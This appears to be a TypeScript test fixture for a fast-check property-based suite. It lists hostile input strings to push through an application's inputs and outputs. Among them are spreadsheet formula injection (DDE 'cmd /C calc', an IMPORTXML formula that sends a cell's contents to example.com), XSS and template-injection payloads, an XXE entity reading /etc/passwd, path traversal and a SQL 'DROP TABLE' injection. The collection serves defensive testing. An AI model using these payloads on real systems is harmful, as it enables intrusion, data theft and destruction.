import * as fc from 'fast-check';

const name = (text: string, times: number) => text.repeat(Math.ceil(times / text.length)).slice(0, times);

/**
 * Texts that some program somewhere took for more than text, by what they try. They are put into every way in and
 * looked for at every way out.
 */
export const hostileTexts: Readonly<Record<string, string>> = {
  'a formula': '=1+1',
  'a formula that fetches': '=IMPORTXML("https://example.com/?"&A1,"//a")',
  'a formula that links': '=HYPERLINK("https://example.com","Bấm vào đây")',
  'a formula by plus': '+1+1',
  'a formula by minus': "-2+3+cmd|' /C calc'!A0",
  'a formula by at': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a formula after a tab': '\t=1+1',
  'a formula after a return': '\r=1+1',
  'a formula after a break': '\n=1+1',
  'a formula in full width': '＝1+1',
  'a call of our own': '=AID_TOTAL(A:Z,"cam kết","USD")',
  'an apostrophe first': "'=1+1",
  'a cell of another program': '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  'commas and quotes': '","=1+1","',
  'a line of a table': 'a\tb\r\nc\td',
  'an image': '<img src=x onerror="alert(1)">',
  'a script': '<script>alert(2)</script>',
  'a script in svg': '"><svg/onload=alert(3)>',
  'a frame': '</p><iframe src="https://example.com"></iframe>',
  'a link that runs': 'javascript:alert(4)',
  'an attribute': '" onmouseover="alert(5)" x="',
  'a style': '</style><style>*{display:none}</style>',
  'a template': '{{constructor.constructor("alert(6)")()}}',
  'a template literal': '$' + '{alert(7)} #{7*7} <%= 7*7 %> {% raw %}',
  'tags of document templates': '{title} {#loop}{/loop} {%image} [[name]] «field»',
  printf: '%s %n %d %1$s',
  entities: '&lt;b&gt;&amp;&#x41;&nbsp;&bogus;',
  'the end of data': ']]><![CDATA[ x ]]>',
  'a doctype': '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  'tags of a document': '</w:t></w:r></w:p><w:p><w:r><w:br w:type="page"/>',
  'a field of a document': '{ HYPERLINK "https://example.com" } \\* MERGEFORMAT',
  'escapes of Excel': '_x000D__x0000_ _x005F_x000D_ _x0041_',
  'control characters': 'a\u0000b\u0001c\u0008d\u000be\u001ff\u007fg\u009f',
  'half a pair': 'a\ud800b',
  'the other half': '\udc00',
  'halves the wrong way round': '\udfff\ud800',
  'non-characters': '\ufffe\uffff\u{1fffe}',
  'a byte order mark': '\ufeff=1+1',
  'right to left': '\u202egnp.exe\u202c \u200f\u2067abc\u2069',
  'zero width': 'V\u200bi\u200ce\u200dt\u2060 Na\u00adm',
  decomposed: 'Vie\u0302\u0323n tr\u01a1\u0323'.normalize('NFD'),
  'marks upon marks': `Z${'\u0351\u036b\u0343'.repeat(60)}`,
  'marks alone': '\u0301\u0323',
  'spaces of all kinds': '\u00a0\u2003\u3000\u205f',
  'breaks of all kinds': 'a\u2028b\u2029c\u0085d\re\n\nf',
  emoji: '👩‍👩‍👧‍👦🏳️‍🌈🇻🇳👍🏽',
  'other scripts': 'العربية עברית 中文 ไทย 한국어 ꦗꦮ 𝒜𝒷𝒸',
  'a prototype': '__proto__',
  'a constructor': 'constructor',
  'a method': 'toString',
  'another method': 'hasOwnProperty',
  'a word of JSON': '{"__proto__":{"polluted":true}}',
  null: 'null',
  undefined: 'undefined',
  'not a number': 'NaN',
  infinite: '-Infinity 1e999',
  'a number beyond all': '9'.repeat(400),
  'a small number': `0.${'0'.repeat(400)}1`,
  'a regular expression': '(a+)+$ [a-z]{1,99999} \\',
  'a replacement': '$& $1 $$ $`',
  slashes: "..\\..\\../../etc/passwd C:\\CON 'x'!A1:B2",
  'a query': "Robert'); DROP TABLE aid;--",
  'a word without end': name('dài', 5_000),
  'as much as a cell holds': name('Xã Chiềng Cơi, tỉnh Sơn La; ', 50_000),
  'all that at once': '=<b>"{{a}}"\u0000\ud800\u202e_x000D_',
};

/** Any of them, a piece of one, several in a row, or any code units at all. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...Object.values(hostileTexts)),
  fc
    .array(fc.constantFrom(...Object.values(hostileTexts).map((text) => text.slice(0, 40))), {
      minLength: 2,
      maxLength: 4,
    })
    .map((texts) => texts.join(' ')),
  fc.string({
    unit: fc.integer({ min: 0, max: 0xffff }).map((unit) => String.fromCharCode(unit)),
    maxLength: 40,
  }),
);
